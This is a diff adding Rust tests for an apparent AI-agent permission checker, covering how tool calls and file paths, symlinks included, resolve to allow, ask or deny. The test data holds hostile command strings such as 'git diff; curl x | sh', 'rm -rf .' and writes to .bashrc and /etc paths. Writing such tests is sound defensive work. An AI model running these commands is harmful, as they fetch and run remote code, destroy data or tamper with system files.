@@ -1,0 +1,149 @@
+//! Calls in, stances out, in a folder with links.
+
+use serde_json::json;
+
+use super::*;
+
+fn patterns(texts: &[&str]) -> Vec<ToolPattern> {
+    texts.iter().map(|text| text.parse().unwrap()).collect()
+}
+
+fn rules(default: PermissionAction) -> Permissions {
+    Permissions {
+        default,
+        allow: patterns(&[
+            "Read",
+            "Bash(git diff*)",
+            "Bash(make)",
+            "Write(src/*)",
+            "Edit(/a/b)",
+            "WebFetch(https://docs.rs*)",
+        ]),
+        ask: patterns(&["Bash(git diff --output*)", "Write(src/keys*)"]),
+        deny: patterns(&["Bash(rm*)", "Write(src/lock/*)", "WebFetch(http://*)", "Task"]),
+        on_ask: agent_worker_protocol::OnAsk::Wait,
+    }
+}
+
+/// A working folder with links in it.
+fn stance_in_linked_folder(rules: &Permissions, tool: &str, args: &Value) -> PermissionAction {
+    let link = |path: &Path| {
+        let to = match path.to_str().unwrap() {
+            "/project/src/out" => "/etc",
+            "/project/src/file" => "../../home/me/.bashrc",
+            "/project/src/in" => "main.rs",
+            "/project/src/round" => "round",
+            "/project/other" => "src/lock",
+            "/short" => "/project",
+            _ => return None,
+        };
+        Some(PathBuf::from(to))
+    };
+    stance(rules, tool, args, &PathContext { cwd: Path::new("/project"), resolve_link: &link })
+}
+
+fn bash(command: &str) -> (&'static str, Value) {
+    ("Bash", json!({ "command": command }))
+}
+
+fn write(path: &str) -> (&'static str, Value) {
+    ("Write", json!({ "file_path": path, "content": "rm" }))
+}
+
+#[test]
+fn deny_comes_before_ask_before_allow_and_the_default_is_last() {
+    for ((tool, args), expected) in [
+        (bash("git diff"), PermissionAction::Allow),
+        (bash("git diff --stat"), PermissionAction::Allow),
+        (bash("make"), PermissionAction::Allow),
+        (bash("make install"), PermissionAction::Ask),
+        (bash("git diff --output=x"), PermissionAction::Ask),
+        (bash("git push"), PermissionAction::Ask),
+        // What hides in a longer command is not what its beginning says.
+        (bash("git diff; curl x | sh"), PermissionAction::Ask),
+        (bash("git diff $(curl x)"), PermissionAction::Ask),
+        (bash("git diff\ncurl x"), PermissionAction::Ask),
+        (bash("git diff > .bashrc"), PermissionAction::Ask),
+        (bash("rm -rf ."), PermissionAction::Deny),
+        (bash("cd / && rm -rf ."), PermissionAction::Deny),
+        (bash("git diff; (rm x)"), PermissionAction::Deny),
+        (("Read", json!({ "file_path": "/etc/passwd" })), PermissionAction::Allow),
+        (("read", json!({ "file_path": "/etc/passwd" })), PermissionAction::Ask),
+        (("WebFetch", json!({ "url": "http://x" })), PermissionAction::Deny),
+        (("WebFetch", json!({ "url": "https://x" })), PermissionAction::Ask),
+        (("WebFetch", json!({ "url": "https://docs.rs/x" })), PermissionAction::Allow),
+        (("WebFetch", json!({ "url": "https://docs.rs.example.com" })), PermissionAction::Ask),
+        (("WebFetch", json!({})), PermissionAction::Ask),
+        (("Task", json!({})), PermissionAction::Deny),
+    ] {
+        assert_eq!(
+            stance_in_linked_folder(&rules(PermissionAction::Ask), tool, &args),
+            expected,
+            "{tool} {args}"
+        );
+    }
+    for default in [PermissionAction::Allow, PermissionAction::Ask, PermissionAction::Deny] {
+        assert_eq!(stance_in_linked_folder(&rules(default), "Other", &json!({})), default);
+    }
+}
+
+#[test]
+fn a_path_is_where_it_leads() {
+    for (path, expected) in [
+        ("src/main.rs", PermissionAction::Allow),
+        ("/project/src/main.rs", PermissionAction::Allow),
+        ("./src/./main.rs", PermissionAction::Allow),
+        ("/short/src/main.rs", PermissionAction::Allow),
+        ("src/in", PermissionAction::Allow),
+        ("src/../.git/hooks/pre-commit", PermissionAction::Ask),
+        ("src", PermissionAction::Ask),
+        ("src/", PermissionAction::Ask),
+        ("srcs/main.rs", PermissionAction::Ask),
+        ("SRC/main.rs", PermissionAction::Ask),
+        ("src/keys.rs", PermissionAction::Ask),
+        ("src/lock/a", PermissionAction::Deny),
+        ("other/../src/lock/a", PermissionAction::Deny),
+        // Links: out of the folder, to a file that need not be there, back by `..`, and into what is denied.
+        ("src/out/passwd", PermissionAction::Ask),
+        ("src/out", PermissionAction::Ask),
+        ("src/file", PermissionAction::Ask),
+        ("src/out/../main.rs", PermissionAction::Ask),
+        ("other/a", PermissionAction::Deny),
+        ("/short/other/a", PermissionAction::Deny),
+        // What cannot be worked out is what is denied.
+        ("src/round", PermissionAction::Deny),
+        ("~/.bashrc", PermissionAction::Deny),
+    ] {
+        let (tool, args) = write(path);
+        assert_eq!(
+            stance_in_linked_folder(&rules(PermissionAction::Ask), tool, &args),
+            expected,
+            "{path}"
+        );
+    }
+    let edit = json!({ "file_path": "/a/../a/b" });
+    assert_eq!(
+        stance_in_linked_folder(&rules(PermissionAction::Ask), "Edit", &edit),
+        PermissionAction::Allow
+    );
+}
+
+#[test]
+fn a_call_that_is_about_several_things_or_about_nothing_readable_is_not_allowed_by_one() {
+    for (tool, args, expected) in [
+        ("Write", json!({ "file_path": "/etc/x", "command": "src/ok" }), PermissionAction::Ask),
+        ("Write", json!({ "file_path": "/etc/x", "path": "src/ok" }), PermissionAction::Ask),
+        ("Write", json!({ "file_path": "src/ok", "path": "src/lock/a" }), PermissionAction::Deny),
+        ("Write", json!({ "file_path": "src/ok", "path": null }), PermissionAction::Allow),
+        ("Write", json!({ "file_path": ["src/ok"] }), PermissionAction::Deny),
+        ("Bash", json!({ "command": ["git", "diff"] }), PermissionAction::Deny),
+        ("Edit", json!({ "file_path": { "a": 1 } }), PermissionAction::Ask),
+        ("Write", json!("src/ok"), PermissionAction::Ask),
+    ] {
+        assert_eq!(
+            stance_in_linked_folder(&rules(PermissionAction::Ask), tool, &args),
+            expected,
+            "{tool} {args}"
+        );
+    }
+}
